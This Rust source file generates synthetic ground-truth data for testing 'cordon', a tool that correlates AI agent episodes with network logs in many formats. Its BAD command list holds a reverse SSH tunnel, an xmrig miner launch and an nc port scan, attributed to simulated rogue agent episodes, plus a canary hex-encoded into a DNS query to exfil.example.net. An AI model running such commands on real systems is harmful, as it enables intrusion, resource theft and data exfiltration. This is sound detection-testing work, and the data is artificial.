//! Test data with known ground truth: episodes (contract JSONL) of several agents on several hosts,
//! and the network they caused written in every format `cordon ingest` reads, with background
//! traffic that is not theirs and the log clocks running `skew_us` ahead. Pure: it returns text.

use std::fmt::Write;

use crate::stats::Rng;

/// Where a generated log line came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Truth {
    pub file: String,
    pub line: u64,
    /// The episode and call that caused it; `None` for background.
    pub session: Option<String>,
    pub call: Option<String>,
    pub violation: bool,
}

#[derive(Debug, Clone, Default)]
pub struct Generated {
    /// Contract events, one JSON a line.
    pub episodes: String,
    /// The `--hosts` file.
    pub hosts: String,
    /// (file name, contents, extra ingest arguments).
    pub files: Vec<(String, String, Vec<String>)>,
    pub truth: Vec<Truth>,
}

pub struct Params {
    pub seed: u64,
    /// Record clock minus episode clock.
    pub skew_us: i64,
    pub episodes_per_host: usize,
    /// A canary marker to leak (hex-encoded in a DNS query) during one malicious call.
    pub canary: Option<String>,
}

impl Default for Params {
    fn default() -> Self {
        Params {
            seed: 7,
            skew_us: 2_000_000,
            episodes_per_host: 4,
            canary: None,
        }
    }
}

/// 2026-03-02T09:00:00Z.
pub const T0: i64 = 1_772_442_000_000_000;

const HOSTS: [(&str, &str, &str); 3] = [
    ("gpu-node-1", "rome-a", "i-0a1b2c3d4e5f60001"),
    ("gpu-node-2", "rome-b", "i-0a1b2c3d4e5f60002"),
    ("cpu-node-3", "coder-c", "i-0a1b2c3d4e5f60003"),
];

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Fmt {
    Syslog,
    JournalExport,
    JournalJson,
    Conntrack,
    ZeekTsv,
    ZeekJson,
    Eve,
    Vpc2,
    Vpc5,
    Sandbox,
}

const ALLOWED_FMTS: [Fmt; 10] = [
    Fmt::Syslog,
    Fmt::JournalExport,
    Fmt::JournalJson,
    Fmt::Conntrack,
    Fmt::ZeekTsv,
    Fmt::ZeekJson,
    Fmt::Eve,
    Fmt::Vpc2,
    Fmt::Vpc5,
    Fmt::Sandbox,
];
const BLOCKED_FMTS: [Fmt; 6] = [
    Fmt::Syslog,
    Fmt::JournalExport,
    Fmt::JournalJson,
    Fmt::Eve,
    Fmt::Vpc5,
    Fmt::Sandbox,
];

/// One connection to write.
#[derive(Clone, Debug)]
struct Conn {
    ts: i64,
    dur: i64,
    host: usize,
    src: String,
    sport: u16,
    dst: String,
    dport: u16,
    proto: &'static str,
    blocked: bool,
    fmt: Fmt,
    session: Option<String>,
    call: Option<String>,
    dns: Option<String>,
    bytes: (u64, u64),
}

pub fn rfc3339(us: i64) -> String {
    let secs = us.div_euclid(1_000_000);
    let (days, sod) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    let (y, m, d) = cordon_core::calendar::civil_from_days(days);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:06}",
        sod / 3600,
        sod % 3600 / 60,
        sod % 60,
        us.rem_euclid(1_000_000)
    )
}

fn epoch(us: i64) -> String {
    format!(
        "{}.{:06}",
        us.div_euclid(1_000_000),
        us.rem_euclid(1_000_000)
    )
}

const BENIGN: [(&str, &str, u16); 5] = [
    ("pip install -r requirements.txt", "151.101.0.223", 443),
    (
        "git clone https://github.com/example/trainer.git",
        "140.82.112.3",
        443,
    ),
    (
        "curl -sS https://pypi.org/simple/torch/",
        "151.101.64.223",
        443,
    ),
    ("python train.py --steps 200", "10.0.0.50", 8080),
    ("ls -la && cat README.md", "", 0),
];
const BAD: [(&str, &str, u16); 3] = [
    (
        "ssh -N -f -R 2222:localhost:22 tunnel@203.0.113.5",
        "203.0.113.5",
        22,
    ),
    (
        "nohup ./xmrig -o pool.minexmr.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx &",
        "198.51.100.77",
        3333,
    ),
    (
        "for p in 22 6379 9200; do nc -zv 10.0.0.30 $p; done",
        "10.0.0.30",
        6379,
    ),
];

/// Generate the data set.
pub fn generate(p: &Params) -> Generated {
    let mut rng = Rng::new(p.seed);
    let mut events = String::new();
    let mut conns: Vec<Conn> = Vec::new();
    let mut rr = [0usize; 2];
    let mut pick = |blocked: bool, host: usize| -> Fmt {
        let list: &[Fmt] = if blocked {
            &BLOCKED_FMTS
        } else {
            &ALLOWED_FMTS
        };
        loop {
            let k = &mut rr[usize::from(blocked)];
            let f = list[*k % list.len()];
            *k += 1;
            // conntrack is read from gpu-node-1 only (its own file, --host).
            if f != Fmt::Conntrack || host == 0 {
                return f;
            }
        }
    };
    let mut canary_left = p.canary.clone();
    let mut busy: Vec<Vec<(i64, i64)>> = vec![Vec::new(); HOSTS.len()];
    let mut horizon = T0;
    for (h, (_, agent, _)) in HOSTS.iter().enumerate() {
        let mut t = T0 + rng.below(20_000_000) as i64;
        for e in 0..p.episodes_per_host {
            let session = format!("{agent}-ep{:02}", e + 1);
            let rogue = e % 2 == 1; // every other episode goes astray
            let addr = format!("10.88.{}.{}", h + 1, 10 + e);
            let task = if rogue {
                "fix the failing training job"
            } else {
                "add a unit test for the data loader"
            };
            let ncalls = 8 + rng.below(6) as usize;
            for c in 0..ncalls {
                t += 2_000_000 + rng.below(6_000_000) as i64; // the model thinks
                let call_id = format!("{session}-c{:02}", c + 1);
                let bad = rogue && c >= ncalls / 2 && c % 2 == 0;
                let (cmd, dst, dport) = if bad {
                    BAD[(c / 2) % BAD.len()]
                } else {
                    BENIGN[rng.below(BENIGN.len() as u64) as usize]
                };
                let dur = 500_000 + rng.below(if bad { 6_000_000 } else { 4_000_000 }) as i64;
                let _ = writeln!(
                    events,
                    r#"{{"id":"{call_id}","type":"call","session":"{session}","agent":"{agent}","task":"{task}","tool":"bash","input":{{"command":{}}},"ts":"{}Z"}}"#,
                    serde_json::Value::String(cmd.into()),
                    rfc3339(t)
                );
                let _ = writeln!(
                    events,
                    r#"{{"id":"{call_id}","type":"result","session":"{session}","agent":"{agent}","tool":"bash","output":"ok","ts":"{}Z"}}"#,
                    rfc3339(t + dur)
                );
                busy[h].push((t, t + dur));
                if dport != 0 {
                    let n = if bad {
                        2 + rng.below(4)
                    } else {
                        1 + rng.below(2)
                    };
                    for _ in 0..n {
                        let at = t + 100_000 + rng.below((dur - 200_000) as u64) as i64;
                        let blocked = bad;
                        let mut conn = Conn {
                            ts: at,
                            dur: 50_000 + rng.below(3_000_000) as i64,
                            host: h,
                            src: addr.clone(),
                            sport: 32768 + rng.below(28000) as u16,
                            dst: dst.into(),
                            dport,
                            proto: "tcp",
                            blocked,
                            fmt: pick(blocked, h),
                            session: Some(session.clone()),
                            call: Some(call_id.clone()),
                            dns: None,
                            bytes: if blocked {
                                (60, 0)
                            } else {
                                (500 + rng.below(20_000), 2_000 + rng.below(2_000_000))
                            },
                        };
                        if blocked && dport == 3333 && rng.below(2) == 0 {
                            conn.fmt = Fmt::Eve; // the IDS sees the stratum login
                        }
                        conns.push(conn);
                    }
                    // A DNS lookup before the connection.
                    if !dst.starts_with("10.") {
                        let at = t + 20_000 + rng.below(60_000) as i64;
                        let name = match dport {
                            22 => "tunnel.example.net".to_owned(),
                            3333 => "pool.minexmr.com".to_owned(),
                            _ => "pypi.org".to_owned(),
                        };
                        let name = match (&canary_left, bad) {
                            (Some(m), true) => {
                                let full: String = m.bytes().map(|b| format!("{b:02x}")).collect();
                                canary_left = None;
                                format!("{full}.x.exfil.example.net")
                            }
                            _ => name,
                        };
                        conns.push(Conn {
                            ts: at,
                            dur: 0,
                            host: h,
                            src: addr.clone(),
                            sport: 40000 + rng.below(20000) as u16,
                            dst: "10.0.0.2".into(),
                            dport: 53,
                            proto: "udp",
                            blocked: false,
                            fmt: Fmt::Eve,
                            session: Some(session.clone()),
                            call: Some(call_id.clone()),
                            dns: Some(name),
                            bytes: (70, 0),
                        });
                    }
                }
                t += dur;
            }
            t += 60_000_000 + rng.below(60_000_000) as i64; // idle between episodes
        }
        horizon = horizon.max(t);
    }
    // Background: other tenants (not in the hosts file) all the time, and the hosts' own daemons
    // while no episode runs there.
    let span = horizon - T0;
    for _ in 0..(span / 1_500_000) {
        let at = T0 + rng.below(span as u64) as i64;
        let blocked = rng.below(8) == 0;
        let tenant = format!("10.20.{}.{}", rng.below(4), 2 + rng.below(200));
        let (dst, dport) = if blocked {
            ("10.0.0.30", 22)
        } else {
            ("151.101.0.223", 443)
        };
        conns.push(Conn {
            ts: at,
            dur: 10_000 + rng.below(2_000_000) as i64,
            host: usize::MAX,
            src: tenant,
            sport: 32768 + rng.below(28000) as u16,
            dst: dst.into(),
            dport,
            proto: "tcp",
            blocked,
            fmt: if blocked {
                [Fmt::Syslog, Fmt::Eve, Fmt::Vpc5][rng.below(3) as usize]
            } else {
                [
                    Fmt::ZeekTsv,
                    Fmt::ZeekJson,
                    Fmt::Eve,
                    Fmt::Vpc2,
                    Fmt::Syslog,
                ][rng.below(5) as usize]
            },
            session: None,
            call: None,
            dns: None,
            bytes: (300, 3000),
        });
    }
    for (h, _) in HOSTS.iter().enumerate() {
        for _ in 0..40 {
            let at = T0 + rng.below(span as u64) as i64;
            // Far from any episode of this host: the window and the skew cannot reach it.
            let near = busy[h]
                .iter()
                .any(|&(s, e)| at > s - 90_000_000 && at < e + 90_000_000);
            if near {
                continue;
            }
            conns.push(Conn {
                ts: at,
                dur: 100_000,
                host: h,
                src: format!("10.0.{}.10", h + 1),
                sport: 123,
                dst: "10.0.0.1".into(),
                dport: 123,
                proto: "udp",
                blocked: false,
                fmt: [Fmt::Syslog, Fmt::JournalJson][rng.below(2) as usize],
                session: None,
                call: None,
                dns: None,
                bytes: (76, 76),
            });
        }
    }
    conns.sort_by_key(|c| c.ts);
    render(p, conns, events)
}

struct Out {
    name: String,
    text: String,
    line: u64,
    args: Vec<String>,
}

impl Out {
    fn new(name: &str, args: &[&str]) -> Out {
        Out {
            name: name.into(),
            text: String::new(),
            line: 0,
            args: args.iter().map(|s| s.to_string()).collect(),
        }
    }
    fn push(&mut self, l: &str) -> u64 {
        self.text.push_str(l);
        self.text.push('\n');
        self.line += 1;
        self.line
    }
}

fn host_name(h: usize, rng: &mut Rng) -> String {
    match HOSTS.get(h) {
        Some((name, _, _)) => (*name).into(),
        None => ["db-1", "ci-runner-4", "web-2"][rng.below(3) as usize].into(),
    }
}

fn kernel_msg(c: &Conn) -> String {
    let prefix = if c.blocked {
        "CORDON-DROP: "
    } else {
        "CORDON-ACCEPT: "
    };
    let tcp = if c.proto == "tcp" {
        " WINDOW=64240 RES=0x00 SYN URGP=0"
    } else {
        ""
    };
    format!(
        "{prefix}IN= OUT=eth0 SRC={} DST={} LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID={} DF PROTO={} SPT={} DPT={}{tcp}",
        c.src,
        c.dst,
        c.sport,
        c.proto.to_uppercase(),
        c.sport,
        c.dport
    )
}

fn render(p: &Params, conns: Vec<Conn>, episodes: String) -> Generated {
    let mut rng = Rng::new(p.seed ^ 0xabcdef);
    let mut syslog = Out::new("syslog", &[]);
    let mut jexp = Out::new("kernel.export", &[]);
    let mut jjson = Out::new("kernel.json", &[]);
    let mut ct = Out::new("conntrack-gpu-node-1.log", &["--host", "gpu-node-1"]);
    let mut zeek = Out::new("conn.log", &[]);
    let mut zjson = Out::new("conn.json", &[]);
    let mut eve = Out::new("eve.json", &[]);
    let mut vpc2 = Out::new("vpc-v2.log", &[]);
    let mut vpc5 = Out::new("vpc-v5.log", &[]);
    let mut sandbox = Out::new("sandbox.jsonl", &[]);
    let mut truth = Vec::new();
    for l in [
        "#separator \\x09",
        "#set_separator\t,",
        "#empty_field\t(empty)",
        "#unset_field\t-",
        "#path\tconn",
        "#open\t2026-03-02-09-00-00",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents",
        "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]",
    ] {
        zeek.push(l);
    }
    vpc5.push("version vpc-id subnet-id instance-id interface-id account-id type srcaddr dstaddr srcport dstport pkt-srcaddr pkt-dstaddr protocol bytes packets start end action tcp-flags log-status flow-direction traffic-path");
    let uid = |rng: &mut Rng| -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        let mut s = String::from("C");
        for _ in 0..17 {
            s.push(A[rng.below(A.len() as u64) as usize] as char);
        }
        s
    };
    for c in &conns {
        let ts = c.ts + p.skew_us; // the log clock
        let proto_num = if c.proto == "tcp" { 6 } else { 17 };
        let (file, line): (&str, u64) = match c.fmt {
            Fmt::Syslog => {
                let host = host_name(c.host, &mut rng);
                let l = format!(
                    "{}+00:00 {host} kernel: [{:>12}] {}",
                    rfc3339(ts),
                    epoch(ts - T0 + 86_400_000_000),
                    kernel_msg(c)
                );
                ("syslog", syslog.push(&l))
            }
            Fmt::JournalExport => {
                let start = jexp.line + 1;
                let host = host_name(c.host, &mut rng);
                for l in [
                    format!("__CURSOR=s=5f0a;i={start:x};b=1;m={ts:x};t=0;x=0"),
                    format!("__REALTIME_TIMESTAMP={ts}"),
                    format!("__MONOTONIC_TIMESTAMP={}", ts - T0 + 86_400_000_000),
                    "_TRANSPORT=kernel".into(),
                    "PRIORITY=4".into(),
                    "SYSLOG_IDENTIFIER=kernel".into(),
                    format!("_HOSTNAME={host}"),
                    format!("MESSAGE={}", kernel_msg(c)),
                    String::new(),
                ] {
                    jexp.push(&l);
                }
                ("kernel.export", start)
            }
            Fmt::JournalJson => {
                let host = host_name(c.host, &mut rng);
                let l = serde_json::json!({"__CURSOR": format!("s=5f0a;i={:x}", jjson.line + 1), "__REALTIME_TIMESTAMP": ts.to_string(), "__MONOTONIC_TIMESTAMP": (ts - T0).to_string(), "_TRANSPORT": "kernel", "PRIORITY": "4", "SYSLOG_IDENTIFIER": "kernel", "_HOSTNAME": host, "MESSAGE": kernel_msg(c)});
                ("kernel.json", jjson.push(&l.to_string()))
            }
            Fmt::Conntrack => {
                let l = format!(
                    "[{}]\t    [NEW] {} {:>6} {} {}src={} dst={} sport={} dport={} [UNREPLIED] src={} dst={} sport={} dport={}",
                    epoch(ts),
                    c.proto,
                    proto_num,
                    if c.proto == "tcp" { 120 } else { 30 },
                    if c.proto == "tcp" { "SYN_SENT " } else { "" },
                    c.src,
                    c.dst,
                    c.sport,
                    c.dport,
                    c.dst,
                    c.src,
                    c.dport,
                    c.sport
                );
                ("conntrack-gpu-node-1.log", ct.push(&l))
            }
            Fmt::ZeekTsv => {
                let service = match c.dport {
                    443 => "ssl",
                    22 => "ssh",
                    53 => "dns",
                    _ => "-",
                };
                let l = format!(
                    "{}\t{}\t{}\t{}\t{}\t{}\t{}\t{service}\t{}\t{}\t{}\tSF\tT\tF\t0\tShADadFf\t{}\t{}\t{}\t{}\t-",
                    epoch(ts),
                    uid(&mut rng),
                    c.src,
                    c.sport,
                    c.dst,
                    c.dport,
                    c.proto,
                    epoch(c.dur),
                    c.bytes.0,
                    c.bytes.1,
                    c.bytes.0 / 500 + 1,
                    c.bytes.0 + 40,
                    c.bytes.1 / 1000 + 1,
                    c.bytes.1 + 40
                );
                ("conn.log", zeek.push(&l))
            }
            Fmt::ZeekJson => {
                let l = serde_json::json!({"ts": ts as f64 / 1e6, "uid": uid(&mut rng), "id.orig_h": c.src, "id.orig_p": c.sport, "id.resp_h": c.dst, "id.resp_p": c.dport, "proto": c.proto, "duration": c.dur as f64 / 1e6, "orig_bytes": c.bytes.0, "resp_bytes": c.bytes.1, "conn_state": "SF", "missed_bytes": 0, "history": "ShADadFf", "orig_pkts": 4, "orig_ip_bytes": c.bytes.0 + 40, "resp_pkts": 4, "resp_ip_bytes": c.bytes.1 + 40});
                ("conn.json", zjson.push(&l.to_string()))
            }
            Fmt::Eve => {
                let stamp = |t: i64| format!("{}+0000", rfc3339(t));
                let flow_id = rng.below(1 << 50);
                let common = serde_json::json!({"flow_id": flow_id, "in_iface": "ens5", "src_ip": c.src, "src_port": c.sport, "dest_ip": c.dst, "dest_port": c.dport, "proto": c.proto.to_uppercase()});
                let mut v = common.clone();
                let o = v.as_object_mut().expect("object");
                if let Some(q) = &c.dns {
                    o.insert("timestamp".into(), stamp(ts).into());
                    o.insert("event_type".into(), "dns".into());
                    o.insert("dns".into(), serde_json::json!({"type": "query", "id": rng.below(65535), "rrname": q, "rrtype": "A", "tx_id": 0}));
                } else if c.blocked {
                    o.insert("timestamp".into(), stamp(ts).into());
                    o.insert("event_type".into(), "alert".into());
                    let (sid, sig) = match c.dport {
                        3333 => (2_024_792, "ET COINMINER Stratum login attempt"),
                        22 => (2_001_219, "ET SCAN Potential SSH Scan OUTBOUND"),
                        _ => (2_010_937, "ET SCAN Suspicious inbound to mySQL port 3306"),
                    };
                    o.insert("alert".into(), serde_json::json!({"action": "blocked", "gid": 1, "signature_id": sid, "rev": 4, "signature": sig, "category": "Crypto Currency Mining Activity Detected", "severity": 2}));
                } else {
                    o.insert("timestamp".into(), stamp(ts + c.dur + 30_000_000).into());
                    o.insert("event_type".into(), "flow".into());
                    o.insert(
                        "app_proto".into(),
                        if c.dport == 443 { "tls" } else { "failed" }.into(),
                    );
                    o.insert(
                        "flow".into(),
                        serde_json::json!({"pkts_toserver": 6, "pkts_toclient": 5, "bytes_toserver": c.bytes.0, "bytes_toclient": c.bytes.1, "start": stamp(ts), "end": stamp(ts + c.dur), "age": c.dur / 1_000_000, "state": "closed", "reason": "timeout", "alerted": false}),
                    );
                }
                ("eve.json", eve.push(&v.to_string()))
            }
            Fmt::Vpc2 | Fmt::Vpc5 => {
                let start = ts.div_euclid(1_000_000);
                let end = start + 1 + rng.below(50) as i64;
                let (instance, eni) = match HOSTS.get(c.host) {
                    Some((_, _, i)) => (i.to_string(), i.replace("i-", "eni-")),
                    None => (
                        "i-0fffffffffff00099".to_string(),
                        "eni-0fffffffffff00099".to_string(),
                    ),
                };
                let action = if c.blocked { "REJECT" } else { "ACCEPT" };
                if c.fmt == Fmt::Vpc2 {
                    let l = format!("2 123456789012 {eni} {} {} {} {} {proto_num} 5 {} {start} {end} {action} OK", c.src, c.dst, c.sport, c.dport, c.bytes.0);
                    ("vpc-v2.log", vpc2.push(&l))
                } else {
                    let l = format!(
                        "5 vpc-0a1b2c3d subnet-1a2b3c4d {instance} {eni} 123456789012 IPv4 {} {} {} {} {} {} {proto_num} {} 5 {start} {end} {action} 2 OK egress 8",
                        c.src, c.dst, c.sport, c.dport, c.src, c.dst, c.bytes.0
                    );
                    ("vpc-v5.log", vpc5.push(&l))
                }
            }
            Fmt::Sandbox => {
                let mut r = cordon_core::NetRecord {
                    source: "sandbox".into(),
                    kind: "connect".into(),
                    ts_us: c.ts, // the episode clock
                    host: HOSTS.get(c.host).map(|h| h.0.to_string()),
                    proto: Some(c.proto.into()),
                    src: Some(c.src.clone()),
                    sport: Some(c.sport),
                    dst: Some(c.dst.clone()),
                    dport: Some(c.dport),
                    action: Some(if c.blocked { "blocked" } else { "allowed" }.into()),
                    session: c.session.clone(),
                    call_id: c.call.clone(),
                    ..Default::default()
                };
                r.detail = serde_json::json!({"via": "cordon proxy"});
                (
                    "sandbox.jsonl",
                    sandbox.push(&serde_json::to_string(&r).expect("serialisable")),
                )
            }
        };
        truth.push(Truth {
            file: file.into(),
            line,
            session: c.session.clone(),
            call: c.call.clone(),
            violation: c.blocked,
        });
    }
    zeek.push("#close\t2026-03-02-11-00-00");
    let mut hosts = String::from(
        "# Which host each agent's episodes ran on, and how the logs name that host.\n",
    );
    for (h, (name, agent, instance)) in HOSTS.iter().enumerate() {
        let _ = writeln!(
            hosts,
            "\n[[host]]\nname = \"{name}\"\nagents = [\"{agent}\"]\nnames = [\"{name}\", \"{instance}\", \"{}\"]\naddresses = [\"10.88.{}.0/24\"]",
            instance.replace("i-", "eni-"),
            h + 1
        );
    }
    let files = [
        syslog, jexp, jjson, ct, zeek, zjson, eve, vpc2, vpc5, sandbox,
    ]
    .into_iter()
    .map(|o| (o.name, o.text, o.args))
    .collect();
    Generated {
        episodes,
        hosts,
        files,
        truth,
    }
}

/// `n` lines of one format for throughput measurements (`zeek`, `netfilter`, `conntrack`,
/// `suricata`, `vpcflow`, `zeek-json`), written through `out` a line at a time.
pub fn bulk(format: &str, n: u64, mut out: impl FnMut(&str)) -> Result<(), String> {
    let mut rng = Rng::new(42);
    if format == "zeek" {
        out("#separator \\x09\n#unset_field\t-\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n");
    } else if format == "vpcflow" {
        out("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n");
    }
    let mut line = String::with_capacity(512);
    for i in 0..n {
        let ts = T0 + i as i64 * 1_000 + rng.below(1000) as i64;
        let src = format!(
            "10.{}.{}.{}",
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        );
        let dst = format!(
            "{}.{}.{}.{}",
            1 + rng.below(223),
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        );
        let (sport, dport) = (
            1024 + rng.below(60000),
            [22, 53, 80, 443, 3333, 8080][rng.below(6) as usize],
        );
        line.clear();
        let _ = match format {
            "zeek" => writeln!(line, "{}\tC{:017x}\t{src}\t{sport}\t{dst}\t{dport}\ttcp\tssl\t{}\t{}\t{}\tSF\tT\tF\t0\tShADadFf\t8\t900\t9\t12000\t-", epoch(ts), rng.next_u64() >> 4, epoch(rng.below(5_000_000) as i64), rng.below(5000), rng.below(500_000)),
            "netfilter" => writeln!(line, "{}+00:00 gpu-node-{} kernel: [ 8812.345678] CORDON-DROP: IN= OUT=eth0 SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID={} DF PROTO=TCP SPT={sport} DPT={dport} WINDOW=64240 RES=0x00 SYN URGP=0", rfc3339(ts), rng.below(8), rng.below(65535)),
            "conntrack" => writeln!(line, "[{}]\t    [NEW] tcp      6 120 SYN_SENT src={src} dst={dst} sport={sport} dport={dport} [UNREPLIED] src={dst} dst={src} sport={dport} dport={sport}", epoch(ts)),
            "suricata" => writeln!(line, r#"{{"timestamp":"{}+0000","flow_id":{},"in_iface":"ens5","event_type":"flow","src_ip":"{src}","src_port":{sport},"dest_ip":"{dst}","dest_port":{dport},"proto":"TCP","app_proto":"tls","flow":{{"pkts_toserver":6,"pkts_toclient":5,"bytes_toserver":900,"bytes_toclient":12000,"start":"{}+0000","end":"{}+0000","age":1,"state":"closed","reason":"timeout","alerted":false}}}}"#, rfc3339(ts + 30_000_000), rng.below(1 << 50), rfc3339(ts), rfc3339(ts + 900_000)),
            "vpcflow" => writeln!(line, "2 123456789012 eni-0a1b2c3d4e5f6{:05} {src} {dst} {sport} {dport} 6 5 {} {} {} ACCEPT OK", rng.below(99999), rng.below(100_000), ts / 1_000_000, ts / 1_000_000 + 30),
            "zeek-json" => writeln!(line, r#"{{"ts":{},"uid":"C{:017x}","id.orig_h":"{src}","id.orig_p":{sport},"id.resp_h":"{dst}","id.resp_p":{dport},"proto":"tcp","service":"ssl","duration":0.5,"orig_bytes":900,"resp_bytes":12000,"conn_state":"SF"}}"#, epoch(ts), rng.next_u64() >> 4),
            other => return Err(format!("no bulk generator for {other:?}")),
        };
        out(&line);
    }
    Ok(())
}
